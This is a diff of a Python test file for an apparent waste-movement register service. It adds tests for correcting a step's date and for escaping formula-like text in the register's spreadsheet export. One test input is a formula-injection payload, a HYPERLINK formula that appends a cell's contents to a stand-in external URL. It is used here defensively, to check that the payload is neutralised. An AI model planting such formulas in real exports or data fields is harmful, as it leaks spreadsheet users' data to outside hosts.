@@ -86,10 +86,29 @@ async def test_each_of_three_companies_takes_its_own_steps(partners: Partners) -
     assert (movement["tonnes_sent"], movement["tonnes_received"], movement["tonnes_difference"]) == (12.4, 12.1, -0.3)
     assert movement["allowed"] == []
     by_epci = done(await partners.get(path, by="epci"))
-    assert by_epci["allowed"] == ["correct-tonnes", "correct-treatment"]
+    assert by_epci["allowed"] == ["correct-tonnes", "correct-day", "correct-treatment"]
     corrected = {"weighing": "processed", "tonnes": 12.05, "reason": "weighing_error"}
     assert done(await partners.post(f"{path}/correct-tonnes", corrected, by="epci"))["tonnes_processed"] == 12.05
     problem(await partners.post(f"{path}/correct-tonnes", corrected, by="company", of=SITE), 403, "role-missing")
+
+
+async def test_a_day_is_corrected_and_the_register_goes_by_it(partners: Partners) -> None:
+    await member(partners)
+    await lead(partners, path := await draft(partners), "receive")
+    correct = {"step": "sent", "day": "2024-03-03", "reason": "typing_error"}
+    problem(await partners.post(f"{path}/correct-day", correct, by="company", of=CARRIER), 403, "role-missing")
+    corrected = done(await partners.post(f"{path}/correct-day", correct, by="epci"))
+    assert (corrected["sent_on"], corrected["effective_on"]) == ("2024-03-03", "2024-03-05")
+    (row,) = rows((await partners.get(f"{MOVEMENTS}/register", by="epci", to="2024-03-03")).text)
+    assert row["sent_on"] == "2024-03-03"
+    for step, day, slug, pointer in (
+        ("sent", "2024-03-06", "day-after-next-step", "#/day"),
+        ("received", "2024-03-02", "day-before-previous-step", "#/day"),
+        ("processed", "2024-03-20", "step-not-taken", "#/step"),
+    ):
+        wrong = {**correct, "step": step, "day": day}
+        refused = problem(await partners.post(f"{path}/correct-day", wrong, by="epci"), 409, slug)
+        assert [fault["pointer"] for fault in refused["errors"]] == [pointer]
 
 
 async def test_a_company_writes_slips_for_itself_alone(partners: Partners) -> None:
@@ -274,6 +293,31 @@ async def test_the_register_has_what_was_sent_in_the_order_of_the_days(partners:
         "status": "processed",
     }
     assert done(await partners.get(f"{MOVEMENTS}/{second['id']}", by="epci"))["lot"] == "A"
+
+
+@pytest.mark.parametrize(
+    ("description", "written"),
+    [
+        ('=HYPERLINK("http://example.org/?"&A1)', '\'=HYPERLINK("http://example.org/?"&A1)'),
+        ("+33 2 54 00 00 00", "'+33 2 54 00 00 00"),
+        ("-1 : copeaux", "'-1 : copeaux"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("Copeaux = acier", "Copeaux = acier"),
+        ("'copeaux'", "'copeaux'"),
+    ],
+)
+async def test_a_spreadsheet_computes_nothing_that_people_wrote(
+    partners: Partners, description: str, written: str
+) -> None:
+    await member(partners)
+    await lead(partners, await draft(partners, description=description), "send")
+    (row,) = rows((await partners.get(f"{MOVEMENTS}/register", by="epci")).text)
+    assert (row["description"], row["tonnes_sent"]) == (written, "12.4")
+
+
+def test_what_begins_a_formula_is_told_from_a_number() -> None:
+    written = [register.plain(value) for value in ("\t=1", "\r=1", "-1.5", -1.5, None, "R3")]
+    assert written == ["'\t=1", "'\r=1", "'-1.5", -1.5, None, "R3"]
 
 
 async def test_the_register_holds_only_what_its_reader_may_see(
